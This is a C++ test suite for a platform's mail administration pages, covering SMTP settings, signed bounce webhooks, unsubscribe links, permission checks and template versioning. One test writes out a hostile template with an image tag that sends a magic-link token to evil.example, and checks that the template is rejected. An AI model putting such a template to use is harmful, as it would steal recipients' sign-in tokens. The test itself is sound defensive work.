#include "kernel/mail/mail_pages.hpp"
#include "kernel/audit/audit_log.hpp"
#include "kernel/kinds/contribution.hpp"
#include "kernel/mail/mail_choice_pages.hpp"
#include "kernel/mail/mail_event_pages.hpp"
#include "kernel/mail/mail_settings_pages.hpp"
#include "kernel/mail/suppression_pages.hpp"
#include "kernel/mail/template_pages.hpp"
#include "tests/kernel/data/test_databases.hpp"
#include "tests/kernel/data/test_doubles.hpp"
#include "tests/kernel/mail/smtp_sink.hpp"

#include <guildhall/sdk/error.hpp>

namespace guildhall::mail {
namespace {

const std::string secret = "a shared secret of thirty-two characters or more";

class SampleTemplates : public MailTemplates {
public:
    RenderedMail render(const std::string&, const sdk::Value& variables) override {
        return {"Shipped", "Dear " + variables.value("name", "") + " " + variables.value("link", ""), ""};
    }
    MailWording shipped(const std::string&) override { return {"Shipped", "Dear {{name}}", "<p>Dear {{name}}</p>"}; }
    RenderedMail render(const MailWording& wording, const sdk::Value&) override {
        return {wording.subject, wording.text, wording.html};
    }
};

class MailArea : public testing::EveryKernelDatabase {
protected:
    void prepare() override {
        EveryKernelDatabase::prepare();
        configure({{"GUILDHALL_VAR", folder_.string()}});
    }
    void TearDown() override {
        pages_ = {};
        settings_.reset();
        shelf_.reset();
        changes_.reset();
        std::filesystem::remove_all(folder_);
        EveryKernelDatabase::TearDown();
    }

    /// A server with this environment on the same database.
    void configure(const std::map<std::string, std::string>& environment) {
        configuration_ = config::Settings::load({.folder = "/nowhere", .environment = environment});
        changes_ = std::make_unique<data::ChangeWatch>(db(), log_);
        shelf_ = std::make_unique<TemplateShelf>(templates_, db(), *changes_, log_);
        shelf_->add("kernel", "Guildhall",
                    {{.key = "kernel/mail/news",
                      .title = "News",
                      .category = "credentials",
                      .sample = {{"name", "Ada"}, {"link", "https://hall.example/magic-link?token=sample"}},
                      .notes = {{"name", "who"}}}},
                    {{"credentials", "Certificates and badges"}, {"requests", "Requests"}});
        settings_ = std::make_unique<MailSettings>(
            MailSettings::Parts{db(), *configuration_, secrets_, *changes_, "hall.example"});
        ways_ = std::make_unique<ConfiguredWays>(*settings_, folder_ / "mail");
        outbox_ = std::make_unique<Outbox>(Outbox::Parts{*shelf_, secrets_, links_, clock_, random_, wakeUp_, *ways_},
                                           OutboxOptions{"https://hall.example", "Guild", "hall.example"});
        describePages();
    }
    void describePages() {
        kinds::Collector collector("kernel");
        kept_.clear();
        const auto describe = [&](auto page) {
            page->describe(collector);
            kept_.push_back(page);
        };
        describe(std::make_shared<MailPages>(MailPages::Parts{db(), audit_, clock_, *shelf_, *ways_, links_}));
        describe(std::make_shared<MailSettingsPages>(MailSettingsPages::Parts{
            db(), *settings_, *shelf_, *ways_, audit_, clock_, random_, log_, {"Guild", "https://hall.example"}}));
        describe(
            std::make_shared<TemplatePages>(TemplatePages::Parts{db(), *shelf_, *outbox_, *changes_, audit_, clock_}));
        describe(std::make_shared<SuppressionPages>(db(), audit_, clock_));
        describe(std::make_shared<MailEventPages>(MailEventPages::Parts{db(), *settings_, audit_, clock_, random_}));
        describe(std::make_shared<MailChoicePages>(MailChoicePages::Parts{db(), *shelf_, links_, audit_, clock_}));
        pages_ = collector.take();
    }

    sdk::RequestParts boss() const {
        return {.viewer =
                    sdk::Viewer({.personId = "cabc-abcdefghjkmn", .email = "boss@example.org", .everything = true})};
    }
    sdk::Response call(const std::string& method, const std::string& pattern, sdk::RequestParts parts) {
        parts.method = method;
        for (const auto& route : pages_.of<sdk::Route>())
            if (route.method == method && route.pattern == pattern)
                return route.handler(sdk::Request(std::move(parts)));
        throw std::logic_error("there is no " + method + " " + pattern);
    }
    sdk::Response post(const std::string& pattern, std::multimap<std::string, std::string, std::less<>> form,
                       std::map<std::string, std::string, std::less<>> values = {}) {
        auto parts = boss();
        parts.form = std::move(form);
        parts.pathValues = std::move(values);
        return call("POST", pattern, std::move(parts));
    }
    sdk::Response report(const std::string& body, const std::string& timestamp, const std::string& signature) {
        return call(
            "POST", "/mail/events",
            {.headers = {{"x-guildhall-timestamp", timestamp}, {"x-guildhall-signature", signature}}, .body = body});
    }
    sdk::Response reportNow(const std::string& body) {
        const auto now = std::to_string(sdk::toMicros(clock_.now()) / 1'000'000);
        return report(body, now, MailEventPages::sign(secret, now, body));
    }
    std::string bounceOf(const std::string& id, bool hard = true) {
        return sdk::Value{{"events",
                           {{{"message_id", "<" + id + "@hall.example>"},
                             {"type", "bounce"},
                             {"hard", hard},
                             {"detail", "550 no such user"},
                             {"at", "2026-03-12T09:00:00Z"}}}}}
            .dump();
    }
    std::string queue(const std::string& to = "ada@example.org") {
        return db().write([&](sdk::Transaction& tx) {
            return outbox_->queue(tx, {.templateKey = "kernel/mail/news",
                                       .to = to,
                                       .personId = "cxyz-abcdefghjkmn",
                                       .category = "credentials",
                                       .variables = {{"name", "Ada"}}});
        });
    }
    StoredMail stored(const std::string& id) {
        return *db().read([&](sdk::Transaction& tx) { return MailRepository().find(tx, id); });
    }
    std::int64_t count(const std::string& sql) {
        return db().read([&](sdk::Transaction& tx) { return tx.query(sql).front().integer(0); });
    }
    std::optional<Suppression> held(const std::string& address) {
        return db().read([&](sdk::Transaction& tx) { return RecipientRepository().findSuppression(tx, address); });
    }
    void saveSecret() { post("/admin/mail/settings", {{"events_secret", secret}}); }

    std::filesystem::path folder_ =
        std::filesystem::temp_directory_path() / ("gh_mail_area_" + std::to_string(::getpid()));
    testing::FakeClock clock_;
    testing::FakeRandom random_;
    testing::FakeLog log_;
    jobs::WakeUp wakeUp_;
    SampleTemplates templates_;
    audit::AuditLog audit_{clock_};
    config::SecretBox secrets_{"a secret key of at least thirty-two characters", random_};
    UnsubscribeLinks links_{secrets_, "https://hall.example"};
    std::optional<config::Settings> configuration_;
    std::unique_ptr<data::ChangeWatch> changes_;
    std::unique_ptr<TemplateShelf> shelf_;
    std::unique_ptr<MailSettings> settings_;
    std::unique_ptr<ConfiguredWays> ways_;
    std::unique_ptr<Outbox> outbox_;
    kinds::Contribution pages_;
    std::vector<std::shared_ptr<void>> kept_;
};
GUILDHALL_ON_EVERY_DATABASE(MailArea);

TEST_P(MailArea, LetsSavedSettingsWinAndFillsTheRestFromTheConfiguration) {
    configure({{"GUILDHALL_ENVIRONMENT", "production"},
               {"GUILDHALL_BASE_URL", "https://learn.example.org"},
               {"GUILDHALL_MAIL_SMTP_HOST", "configured.example"},
               {"GUILDHALL_MAIL_SMTP_USER", "configured"},
               {"GUILDHALL_MAIL_SENDERS", "requests=configured@example.org, credentials = cert@example.org"}});
    EXPECT_EQ(settings_->current()->fromFor("requests").address, "configured@example.org");
    EXPECT_EQ(post("/admin/mail/settings", {{"smtp_host", "saved.example"},
                                            {"smtp_port", "2525"},
                                            {"smtp_password", "Open Sesame 1"},
                                            {"from_requests", "requests@example.org"}})
                  .statusCode,
              303);
    const auto account = settings_->current();
    EXPECT_EQ(account->smtp.host, "saved.example");
    EXPECT_EQ(account->smtp.port, 2525);
    EXPECT_EQ(account->smtp.user, "configured");
    EXPECT_EQ(account->smtp.password, "Open Sesame 1");
    EXPECT_EQ(account->entries.at("smtp_host").origin, "saved here");
    EXPECT_EQ(account->entries.at("smtp_user").origin, "GUILDHALL_MAIL_SMTP_USER");
    EXPECT_EQ(account->fromFor("requests").address, "requests@example.org");
    EXPECT_EQ(account->fromFor("credentials").address, "cert@example.org");
    EXPECT_EQ(account->fromFor("access").address, "no-reply@guildhall.example");
    // Left empty, the password stays and the host is the configured one again.
    post("/admin/mail/settings", {});
    EXPECT_EQ(settings_->current()->smtp.host, "configured.example");
    EXPECT_EQ(settings_->current()->fromFor("requests").address, "configured@example.org");
    EXPECT_EQ(settings_->current()->smtp.password, "Open Sesame 1");
    post("/admin/mail/settings", {{"forget_smtp_password", "yes"}});
    EXPECT_EQ(settings_->current()->smtp.password, "");
}

TEST_P(MailArea, ShowsThePasswordNowhere) {
    post("/admin/mail/settings", {{"smtp_password", "Open Sesame 1"}});
    EXPECT_EQ(count("SELECT COUNT(1) FROM kernel_mail_setting WHERE value LIKE '%Sesame%'"), 0);
    EXPECT_EQ(count("SELECT COUNT(1) FROM kernel_audit WHERE details LIKE '%Sesame%'"), 0);
    EXPECT_EQ(count("SELECT COUNT(1) FROM kernel_audit WHERE action = 'MAIL_SETTINGS_UPDATED'"), 1);
    const auto page = call("GET", "/admin/mail/settings", boss());
    EXPECT_EQ(page.pageContent->data.dump().find("Sesame"), std::string::npos);
}

TEST_P(MailArea, RefusesSettingsThatCannotBe) {
    const auto answer =
        post("/admin/mail/settings",
             {{"smtp_host", "no host!"}, {"smtp_port", "70000"}, {"from", "nobody"}, {"events_secret", "short"}});
    EXPECT_EQ(answer.pageContent->status, 422);
    EXPECT_EQ(answer.pageContent->data["form"]["errors"].size(), 4u);
    EXPECT_EQ(count("SELECT COUNT(1) FROM kernel_mail_setting"), 0);
}

TEST_P(MailArea, LeavesAProductionSitesAccountAsideElsewhere) {
    configure({{"GUILDHALL_ENVIRONMENT", "production"}, {"GUILDHALL_BASE_URL", "https://learn.example.org"}});
    post("/admin/mail/settings", {{"smtp_host", "mail.production.example"}});
    configure({{"GUILDHALL_ENVIRONMENT", "staging"}, {"GUILDHALL_MAIL_ALLOWED_DOMAINS", "example.org"}});
    EXPECT_TRUE(settings_->current()->foreign);
    EXPECT_EQ(settings_->current()->smtp.host, "");
    EXPECT_EQ(ways_->wayTo("ada@example.org")->mode(), "stub");
}

TEST_P(MailArea, LetsMailOutOnlyToAllowedDomainsOutsideProduction) {
    configure(
        {{"GUILDHALL_MAIL_SMTP_HOST", "127.0.0.1"}, {"GUILDHALL_MAIL_ALLOWED_DOMAINS", "example.org, Test.example"}});
    EXPECT_EQ(ways_->wayTo("ada@Example.org")->mode(), "real");
    EXPECT_EQ(ways_->wayTo("ada@test.example")->mode(), "real");
    EXPECT_EQ(ways_->wayTo("ada@sub.example.org")->mode(), "stub");
    EXPECT_EQ(ways_->wayTo("ada@example.org.evil.example")->mode(), "stub");
    EXPECT_THROW(configure({{"GUILDHALL_MAIL_SMTP_HOST", "127.0.0.1"}}), config::ConfigError);
}

TEST_P(MailArea, SendsATestMailAndShowsTheServersAnswer) {
    testing::SmtpSink sink;
    configure({{"GUILDHALL_MAIL_SMTP_HOST", "127.0.0.1"},
               {"GUILDHALL_MAIL_SMTP_PORT", std::to_string(sink.port)},
               {"GUILDHALL_MAIL_SMTP_SECURITY", "none"},
               {"GUILDHALL_MAIL_ALLOWED_DOMAINS", "example.org"}});
    EXPECT_NE(post("/admin/mail/settings/test", {{"address", "ada@example.org"}}).noticeText.find("250 2.0.0 taken"),
              std::string::npos);
    const auto refused = post("/admin/mail/settings/test", {{"address", "refuse@example.org"}});
    EXPECT_EQ(refused.noticeKind, "warning");
    EXPECT_NE(refused.noticeText.find("550 5.1.1 no such user"), std::string::npos);
    EXPECT_EQ(post("/admin/mail/settings/test", {{"address", "nobody"}}).pageContent->status, 422);
}

TEST_P(MailArea, TakesSignedReportsOnly) {
    const auto id = queue();
    const auto body = bounceOf(id);
    EXPECT_EQ(reportNow(body).statusCode, 401) << "no secret is set";
    saveSecret();
    const auto seconds = sdk::toMicros(clock_.now()) / 1'000'000;
    const auto now = std::to_string(seconds), old = std::to_string(seconds - 301), late = std::to_string(seconds + 301);
    EXPECT_EQ(report(body, now, MailEventPages::sign("another secret", now, body)).statusCode, 401);
    EXPECT_EQ(report(body + " ", now, MailEventPages::sign(secret, now, body)).statusCode, 401);
    EXPECT_EQ(report(body, old, MailEventPages::sign(secret, old, body)).statusCode, 401);
    EXPECT_EQ(report(body, late, MailEventPages::sign(secret, late, body)).statusCode, 401);
    EXPECT_EQ(report(body, "", "").statusCode, 401);
    EXPECT_EQ(stored(id).status, "queued");
    EXPECT_EQ(reportNow(body).statusCode, 200);
    EXPECT_EQ(reportNow(body).statusCode, 409) << "the same signature a second time";
    EXPECT_EQ(stored(id).status, "bounced");
}

TEST_P(MailArea, StopsAnAddressThatBouncesForGoodAndTellsAdministrators) {
    saveSecret();
    const auto id = queue("Ada@example.org");
    EXPECT_EQ(reportNow(bounceOf(id)).statusCode, 200);
    ASSERT_TRUE(held("ada@example.org"));
    EXPECT_EQ(held("ada@example.org")->reason, "hard bounce");
    EXPECT_EQ(count("SELECT COUNT(1) FROM kernel_audit WHERE action = 'MAIL_BOUNCED'"), 1);
    const auto cards = pages_.of<sdk::CardSource>().at(0).cards(boss().viewer);
    ASSERT_EQ(cards.size(), 1u);
    EXPECT_EQ(cards[0].title, "Mail that bounced");
    EXPECT_TRUE(cards[0].attention);
    db().write([&](sdk::Transaction& tx) {
        tx.execute("UPDATE kernel_mail SET status = 'suppressed', essential = TRUE WHERE id = $1", id);
    });
    EXPECT_EQ(pages_.of<sdk::CardSource>().at(0).cards(boss().viewer).at(0).title, "Sign-in mail held back");
    // The same report in another delivery counts once.
    clock_.advance(std::chrono::seconds(10));
    EXPECT_EQ(reportNow(bounceOf(id)).statusCode, 200);
    EXPECT_EQ(count("SELECT COUNT(1) FROM kernel_audit WHERE action = 'MAIL_BOUNCED'"), 1);
}

TEST_P(MailArea, TakesABounceThatMayPassForAnAttemptAndIgnoresUnknownMail) {
    saveSecret();
    const auto id = queue();
    EXPECT_EQ(reportNow(bounceOf(id, false)).statusCode, 200);
    EXPECT_EQ(stored(id).status, "queued");
    EXPECT_FALSE(held("ada@example.org"));
    clock_.advance(std::chrono::seconds(1));
    EXPECT_EQ(reportNow(bounceOf("mail-unknownunkno")).statusCode, 200);
    clock_.advance(std::chrono::seconds(1));
    EXPECT_THROW(reportNow("[]"), sdk::Invalid);
    EXPECT_THROW(reportNow("not JSON"), sdk::Invalid);
}

TEST_P(MailArea, StopsAKindOfMailByItsLinkSignedOut) {
    const auto link = links_.linkFor({"cxyz-abcdefghjkmn", "ada@example.org", "credentials"});
    const auto token = link.substr(link.rfind('/') + 1);
    const auto off = [&] {
        return db().read([&](sdk::Transaction& tx) { return RecipientRepository().optOuts(tx, "cxyz-abcdefghjkmn"); });
    };
    EXPECT_EQ(call("GET", "/unsubscribe/{token}", {.pathValues = {{"token", token}}}).pageContent->status, 200);
    EXPECT_TRUE(off().empty()) << "programs that look at links must change nothing";
    call("POST", "/unsubscribe/{token}",
         {.form = {{"List-Unsubscribe", "One-Click"}}, .pathValues = {{"token", token}}});
    EXPECT_EQ(off(), std::set<std::string>{"credentials"});
    EXPECT_THROW(call("POST", "/unsubscribe/{token}", {.pathValues = {{"token", token + "x"}}}), sdk::NotFound);
}

TEST_P(MailArea, LetsPeopleSwitchKindsOffAndOn) {
    const auto off = [&] {
        return db().read([&](sdk::Transaction& tx) { return RecipientRepository().optOuts(tx, "cabc-abcdefghjkmn"); });
    };
    const auto page = call("GET", "/my-mail-settings", boss());
    ASSERT_EQ(page.pageContent->data["form"]["fields"].size(), 1u);
    EXPECT_EQ(page.pageContent->data["form"]["fields"][0]["checked"], true);
    post("/my-mail-settings", {});
    EXPECT_EQ(off(), std::set<std::string>{"credentials"});
    post("/my-mail-settings", {{"credentials", "yes"}});
    EXPECT_TRUE(off().empty());
}

TEST_P(MailArea, ShowsAMailWithoutItsTextToWhoMayNotSeeContacts) {
    const auto id = queue();
    auto helpdesk = boss();
    helpdesk.viewer = sdk::Viewer({.personId = "cabc-abcdefghjkmn", .permissions = {"mail.view"}});
    helpdesk.pathValues = {{"id", id}};
    const auto page = call("GET", "/admin/mail/{id}", helpdesk);
    const auto shown = page.pageContent->data.dump();
    EXPECT_EQ(shown.find("ada@example.org"), std::string::npos);
    EXPECT_EQ(shown.find("Dear Ada"), std::string::npos);
    EXPECT_THROW(call("GET", "/admin/mail/{id}/html", helpdesk), sdk::Forbidden);
    auto full = boss();
    full.pathValues = {{"id", id}};
    EXPECT_NE(call("GET", "/admin/mail/{id}", full).pageContent->data.dump().find("Dear Ada"), std::string::npos);
    EXPECT_EQ(count("SELECT COUNT(1) FROM kernel_audit WHERE action = 'MAIL_VIEWED'"), 2);
}

TEST_P(MailArea, ShowsInAMailsBodyAndSubjectNoNamesThatThePageHides) {
    const auto id = queue();
    db().write([&](sdk::Transaction& tx) {
        tx.execute("UPDATE kernel_mail SET subject = 'A certificate for Ada' WHERE id = $1", id);
    });
    auto contacts = boss();
    contacts.viewer =
        sdk::Viewer({.personId = "cabc-abcdefghjkmn", .permissions = {"mail.view", "participants.view.contact"}});
    contacts.pathValues = {{"id", id}};
    const auto page = call("GET", "/admin/mail/{id}", contacts);
    EXPECT_EQ((page.pageContent->title + page.pageContent->data.dump()).find("Ada"), std::string::npos);
    EXPECT_THROW(call("GET", "/admin/mail/{id}/html", contacts), sdk::Forbidden);
    const auto list = call("GET", "/admin/mail", contacts);
    EXPECT_EQ(list.pageContent->data.dump().find("for Ada"), std::string::npos);
}

TEST_P(MailArea, FindsAPersonsMailAcrossTheirAddresses) {
    queue("ada@example.org");
    queue("ada.lovelace@example.com");
    const auto scope = MailRepository::toPerson("cxyz-abcdefghjkmn");
    const auto page = db().read(
        [&](sdk::Transaction& tx) { return sdk::selectPage(tx, mailFields(), MailRepository::list(), {}, scope); });
    EXPECT_EQ(page.total, 2);
    const auto other = db().read([&](sdk::Transaction& tx) {
        return sdk::selectPage(tx, mailFields(), MailRepository::list(), {},
                               MailRepository::toPerson("cooo-abcdefghjkmn"));
    });
    EXPECT_EQ(other.total, 0);
}

TEST_P(MailArea, TriesAgainOnlyWhatIsOver) {
    const auto id = queue();
    EXPECT_THROW(post("/admin/mail/{id}/retry", {}, {{"id", id}}), sdk::Conflict);
    db().write([&](sdk::Transaction& tx) { MailRepository().setOutcome(tx, id, "failed", "no"); });
    EXPECT_EQ(post("/admin/mail/{id}/retry", {}, {{"id", id}}).statusCode, 303);
    EXPECT_EQ(stored(id).status, "queued");
}

TEST_P(MailArea, KeepsDraftsUntilTheyArePutInUseAndComesBackToTheDefault) {
    const std::map<std::string, std::string, std::less<>> news{{"owner", "kernel"}, {"name", "news"}};
    auto version = news;
    version["version"] = "1";
    const std::string one = "/admin/mail/templates/{owner}/{name}", at = one + "/versions/{version}";
    EXPECT_EQ(post(one, {{"subject", "Ours"}, {"body_text", "Hi {{name}}"}}, news).statusCode, 303);
    EXPECT_EQ(stored(queue()).subject, "Shipped") << "a draft is not in use";
    post(at + "/activate", {}, version);
    EXPECT_EQ(stored(queue()).subject, "Ours");
    post(one + "/default", {}, news);
    EXPECT_EQ(stored(queue()).subject, "Shipped");
    post(at + "/activate", {}, version);
    EXPECT_EQ(stored(queue()).subject, "Ours") << "a former version can come back";
    EXPECT_EQ(count("SELECT COUNT(1) FROM kernel_audit WHERE action = 'MAIL_TEMPLATE_ACTIVATED'"), 2);
}

TEST_P(MailArea, RefusesAWordingWithMistakesBesideTheField) {
    const auto answer = post("/admin/mail/templates/{owner}/{name}",
                             {{"subject", "Ours"}, {"body_text", "Hi {{naem}}"}, {"body_html", "<p>\n{{{name}}}</p>"}},
                             {{"owner", "kernel"}, {"name", "news"}});
    EXPECT_EQ(answer.pageContent->status, 422);
    const auto& fields = answer.pageContent->data["form"]["field"];
    EXPECT_EQ(fields["body_text"]["error"], "Line 1: there is no variable “naem”.");
    EXPECT_EQ(fields["body_html"]["error"], "Line 2: values are always escaped; write {{name}}.");
    EXPECT_EQ(count("SELECT COUNT(1) FROM kernel_mail_template"), 0);
}

TEST_P(MailArea, LetsOnlySystemAdministratorsChangeAWordingThatLetsItsReaderIn) {
    const std::string one = "/admin/mail/templates/{owner}/{name}", at = one + "/versions/{version}";
    auto editor = boss();
    editor.viewer = sdk::Viewer({.personId = "cabc-abcdefghjkmn", .permissions = {"mail.templates.edit"}});
    editor.pathValues = {{"owner", "kernel"}, {"name", "news"}, {"version", "1"}};
    editor.form = {{"subject", "Ours"}, {"body_text", "Hi {{name}}"}};
    EXPECT_EQ(call("GET", one, editor).pageContent->data["may_change"], false);
    EXPECT_THROW(call("POST", one, editor), sdk::Forbidden);
    editor.viewer = boss().viewer;
    EXPECT_EQ(call("POST", one, editor).statusCode, 303);
    editor.viewer = sdk::Viewer({.personId = "cabc-abcdefghjkmn", .permissions = {"mail.templates.edit"}});
    EXPECT_EQ(call("GET", at, editor).pageContent->data["activate_url"], "");
    EXPECT_THROW(call("POST", at + "/activate", editor), sdk::Forbidden);
    EXPECT_THROW(call("POST", one + "/default", editor), sdk::Forbidden);
}

TEST_P(MailArea, PutsNoWordingInUseThatGivesALinkAway) {
    const std::map<std::string, std::string, std::less<>> news{{"owner", "kernel"}, {"name", "news"}};
    auto version = news;
    version["version"] = "1";
    const std::string one = "/admin/mail/templates/{owner}/{name}", at = one + "/versions/{version}";
    const std::string evil = "<img src=\"https://evil.example/?{{link}}\">";
    const auto answer = post(one, {{"subject", "Ours"}, {"body_text", "Hi"}, {"body_html", evil}}, news);
    EXPECT_EQ(answer.pageContent->status, 422);
    EXPECT_NE(answer.pageContent->data["form"]["field"]["body_html"]["error"].get<std::string>().find(
                  "{{…}} may stand in “src”"),
              std::string::npos);
    // One that was saved before there was a check.
    db().write([&](sdk::Transaction& tx) {
        TemplateRepository().addDraft(tx, "kernel/mail/news", {"Ours", "Hi", evil}, "", clock_.now());
    });
    auto parts = boss();
    parts.pathValues = version;
    EXPECT_NE(call("GET", at, parts).pageContent->data["unsafe"], "");
    EXPECT_THROW(post(at + "/activate", {}, version), sdk::Conflict);
    EXPECT_THROW(post(at + "/test", {}, version), sdk::Conflict);
}

TEST_P(MailArea, AddsAndReleasesAddressesByHand) {
    EXPECT_EQ(post("/admin/mail/suppressed", {{"address", "Ada@Example.org"}, {"detail", "asked by phone"}}).statusCode,
              303);
    EXPECT_EQ(held("ada@example.org")->reason, "by hand");
    EXPECT_EQ(post("/admin/mail/suppressed", {{"address", "ada@example.org"}}).pageContent->status, 422);
    EXPECT_EQ(post("/admin/mail/suppressed/release", {{"address", "ada@example.org"}}).statusCode, 303);
    EXPECT_FALSE(held("ada@example.org"));
    EXPECT_EQ(
        count("SELECT COUNT(1) FROM kernel_audit WHERE action IN ('MAIL_SUPPRESSED', 'MAIL_SUPPRESSION_RELEASED')"), 2);
}

}  // namespace
}  // namespace guildhall::mail
